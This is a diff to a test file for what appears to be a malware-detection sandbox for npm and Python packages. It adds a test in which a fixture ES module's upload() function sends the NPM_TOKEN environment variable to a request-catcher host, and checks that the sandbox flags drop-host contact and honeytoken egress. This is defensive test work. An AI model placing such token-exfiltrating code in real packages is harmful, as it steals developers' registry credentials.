@@ -228,12 +228,25 @@ module.exports = { busy, quit, fetchStatus, readKey, perm, Wallet }
 `
     const { run, findings } = await npmRun({ 'index.js': index }, {}, { ...ONE, stepTimeoutMs: 20_000, runTimeoutMs: 40_000 })
     expect(run.steps.map((s) => [s.label, s.phase])).toEqual([
-      ['require index.js', 'load'],
+      ['load index.js', 'load'],
       ['call sandboxed', 'call'],
     ])
     // every export was called: the client's request reached the sinkhole too
     expect(run.runs[0]!.network.some((e) => e.kind === 'http' && e.host.startsWith('api.example-service.com'))).toBe(true)
     expect(rules(findings)).toEqual(['sandbox-contacts-drop-host', 'sandbox-honeytoken-egress', 'sandbox-persistence', 'sandbox-system-info-egress'])
+  })
+
+  it('loads and calls an ES module as it does a CommonJS one', { timeout: 60_000 }, async () => {
+    const artifact = await npmEcosystem.readArtifact(
+      await npmTarball('esm-pkg', '1.0.0', { 'index.js': `import https from 'node:https'\nexport function upload(file) { https.request({ host: 'x.requestcatcher.com', method: 'POST', path: '/' }, (r) => r.resume()).on('error', () => {}).end(process.env.NPM_TOKEN) }\n` }, { type: 'module' }),
+      DEFAULT_ARCHIVE_LIMITS,
+    )
+    const run = await runSandbox(npmEcosystem, artifact, { ...ONE, stepTimeoutMs: 10_000, runTimeoutMs: 30_000 })
+    expect(run.runs[0]!.steps.map((s) => [s.label, s.exitCode])).toEqual([
+      ['load index.js', 0],
+      ['call esm-pkg', 0],
+    ])
+    expect(rules(dynamicFindings(run))).toEqual(['sandbox-contacts-drop-host', 'sandbox-honeytoken-egress'])
   })
 
   it('calls what a Python package exports: a stealer waiting in a function or a method is seen, past calls that hang or exit', { timeout: 90_000 }, async () => {
